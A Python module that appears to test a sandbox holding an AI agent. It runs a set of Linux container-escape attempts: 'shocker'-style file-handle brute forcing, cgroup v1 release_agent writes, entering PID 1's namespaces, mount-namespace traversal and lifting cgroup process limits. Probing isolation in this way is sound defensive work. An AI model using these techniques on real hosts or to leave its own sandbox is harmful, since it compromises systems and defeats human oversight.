# SPDX-License-Identifier: Apache-2.0
"""Attempts through handles, namespaces and control groups (attempts.py)."""

import contextlib
import ctypes
import errno
import fcntl
import os
import struct
from pathlib import Path

from attempts import (
    NEWCGROUP,
    NEWNS,
    NEWUSER,
    REMOUNT,
    agents_files,
    attempt,
    call,
    enter,
    folder,
    mount,
    opened_handle,
    unshare,
)


@attempt
def groups_of_other_nodes_by_handle() -> str | None:
    """All groups have one file system. A handle names a group, even outside the mount."""
    target = folder("groups")
    mount("none", target, "cgroup2")
    at = os.open(target, os.O_RDONLY)
    for number in range(1, 400):
        for kind, handle in ((254, struct.pack("Q", number)), (1, struct.pack("II", number, 0))):
            try:
                group = opened_handle(at, kind, handle, os.O_RDONLY | os.O_DIRECTORY)
            except OSError:
                continue
            names = os.listdir(group)
            if any(name.startswith(("room", "app")) for name in names):
                return f"group {number} has {[name for name in names if name.startswith(('room', 'app'))]}"
    return None


@attempt
def devices_of_other_nodes_by_handle() -> str | None:
    """All views of /sys are one tree of the kernel."""
    at = os.open("/sys", os.O_RDONLY)
    devices = set(os.listdir("/sys/class/net"))
    for number in range(1, 4000):
        try:
            entry = opened_handle(at, 254, struct.pack("Q", number), os.O_RDONLY | os.O_DIRECTORY)
        except OSError as error:
            if error.errno in {errno.EPERM, errno.ENOSYS}:
                raise
            continue
        path = os.readlink(f"/proc/self/fd/{entry}")
        os.close(entry)
        if "/net/" in path and path.rsplit("/", 1)[1] not in devices and path.count("/") == 5:
            return f"handle {number} is {path}"
    return None


@attempt
def a_handle_of_the_own_root() -> str | None:
    """The exploit "shocker": handle 2 is the root of most file systems."""
    for path in ("/", "/tmp", "/dev/shm", "/proc", "/dev/pts", "/run"):
        at = os.open(path, os.O_RDONLY)
        for kind, handle in (
            (1, struct.pack("II", 2, 0)),
            (1, struct.pack("II", 1, 0)),
            (1, struct.pack("III", 2, 0, 0)),
        ):
            try:
                entry = opened_handle(at, kind, handle)
            except OSError:
                continue
            if entries := agents_files(f"/proc/self/fd/{entry}"):
                return f"{path}: {entries}"
    return None


@attempt
def namespaces_by_handle() -> str | None:
    """FD_NSFS_ROOT, Linux 6.18: every namespace has a handle."""
    for number in range(1, 200):
        try:
            entry = opened_handle(-10003, 0xF1, struct.pack("QII", number, 0, 0))
        except OSError as error:
            if error.errno in {errno.EPERM, errno.ENOSYS, errno.EBADF}:
                continue
            continue
        name = os.readlink(f"/proc/self/fd/{entry}")
        if name not in {os.readlink(f"/proc/self/ns/{kind}") for kind in os.listdir("/proc/self/ns")}:
            return f"namespace {name}"
    return None


@attempt
def mount_namespaces_in_their_order() -> str | None:
    """NS_MNT_GET_PREV and NS_MNT_GET_NEXT, Linux 6.12, go from a namespace to its neighbours."""
    for order in (12, 11):
        at = os.open("/proc/self/ns/mnt", os.O_RDONLY)
        for _ in range(64):
            information = bytearray(16)
            try:
                at = fcntl.ioctl(at, 2 << 30 | 16 << 16 | 0xB7 << 8 | order, information)
            except OSError:
                break
            if os.fork() == 0:
                try:
                    enter(at)
                    os._exit(1 if agents_files() else 0)
                except OSError:
                    os._exit(0)
            if os.waitstatus_to_exitcode(os.wait()[1]):
                return "entered the mount namespace of the agent"
    return None


@attempt
def owners_of_namespaces() -> str | None:
    """NS_GET_PARENT and NS_GET_USERNS lead to outer namespaces."""
    for kind in ("pid", "user", "mnt", "net"):
        at = os.open(f"/proc/self/ns/{kind}", os.O_RDONLY)
        try:
            parent = fcntl.ioctl(at, 0xB702)
        except OSError:
            continue
        return f"the parent of {kind} is {os.readlink(f'/proc/self/fd/{parent}')}"
    return None


@attempt
def namespaces_of_the_first_process() -> str | None:
    for kind in ("mnt", "pid", "cgroup", "user", "net"):
        try:
            enter(os.open(f"/proc/1/ns/{kind}", os.O_RDONLY))
        except OSError:
            continue
        return f"entered {kind}"
    return None


@attempt
def namespaces_through_a_pidfd() -> str | None:
    call(308, call(434, 1, 0), NEWNS | NEWCGROUP)
    return "entered those of the first process"


def mounts(namespace: int) -> set[int]:
    """Return the numbers of the mounts that a namespace shows; 0: that of this process."""
    numbers = (ctypes.c_uint64 * 256)()
    request = struct.pack("IIQQQ", 32, 0, 2**64 - 1, 0, namespace)
    return set(numbers[: call(458, request, numbers, 256, 0)])


def texts_of_mount(number: int, namespace: int) -> bytes:
    """Return the type, the root and the place of a mount."""
    answer = ctypes.create_string_buffer(4096)
    call(457, struct.pack("IIQQQ", 32, 0, number, 0x38, namespace), answer, 4096, 0)
    return answer.raw


@attempt
def mounts_of_other_namespaces() -> str | None:
    """listmount and statmount, Linux 6.8 and 6.11."""
    number = bytearray(8)
    fcntl.ioctl(os.open("/proc/self/ns/mnt", os.O_RDONLY), 2 << 30 | 8 << 16 | 0xB7 << 8 | 5, number)
    for namespace in set(range(1, 64)) - {*struct.unpack("Q", number)}:
        with contextlib.suppress(OSError):
            return f"namespace {namespace} shows {len(mounts(namespace))} mounts"
        for mounted in range(2**31, 2**31 + 64):
            with contextlib.suppress(OSError):
                return f"namespace {namespace} shows {texts_of_mount(mounted, namespace)[512:600]!r}"
    return None


@attempt
def hidden_mounts_of_the_namespace() -> str | None:
    """Those of the agent lie below the root, where /proc does not show them."""
    visible = Path("/proc/self/mountinfo").read_text()
    for mounted in mounts(0):
        texts = texts_of_mount(mounted, 0)
        if b"/out" in texts or (b"hostfs" in texts and "hostfs" not in visible):
            return f"the namespace shows {texts[512:600]!r}"
    return None


@attempt
def release_agent() -> str | None:
    unshare(NEWCGROUP)
    target = folder("v1")
    for options in ("none,name=a", "pids", "memory", "rdma", "all"):
        try:
            mount("none", target, "cgroup", options=options)
        except OSError:
            continue
        Path(f"{target}/release_agent").write_text("/tmp/agent")
        return f"a hierarchy of version 1 with {options}"
    return None


@attempt
def release_agent_through_fsopen() -> str | None:
    context = call(430, b"cgroup", 0)
    call(431, context, 0, b"none", None, 0)
    call(431, context, 1, b"name", b"b", 0)
    call(431, context, 1, b"release_agent", b"/tmp/agent", 0)
    call(431, context, 6, None, None, 0)
    return "a hierarchy of version 1"


@attempt
def cpuset_of_version_1() -> str | None:
    target = folder("cpuset")
    mount("none", target, "cpuset")
    return "mounted"


@attempt
def the_delegation_of_groups() -> str | None:
    """Mount the groups again without `nsdelegate`, the bound of their namespaces. Then raise the limit on processes."""
    target = folder("groups")
    mount("none", target, "cgroup2")
    mount("none", target, flags=REMOUNT, options="memory_localevents")
    for group in (".", "room-0"):
        try:
            Path(f"{target}/{group}/pids.max").write_text("max")
        except OSError:
            continue
        return "the bound on processes is lifted"
    return None


@attempt
def the_first_process_in_an_own_group() -> str | None:
    target = folder("groups")
    mount("none", target, "cgroup2")
    os.mkdir(f"{target}/sub")
    Path(f"{target}/sub/cgroup.procs").write_text("1")
    return "moved the first process"


@attempt
def groups_of_a_new_namespace() -> str | None:
    unshare(NEWUSER | NEWNS | NEWCGROUP)
    target = folder("groups")
    mount("none", target, "cgroup2")
    rooms = [name for name in os.listdir(target) if name.startswith(("room", "app"))]
    return f"sees {rooms}" if rooms else None
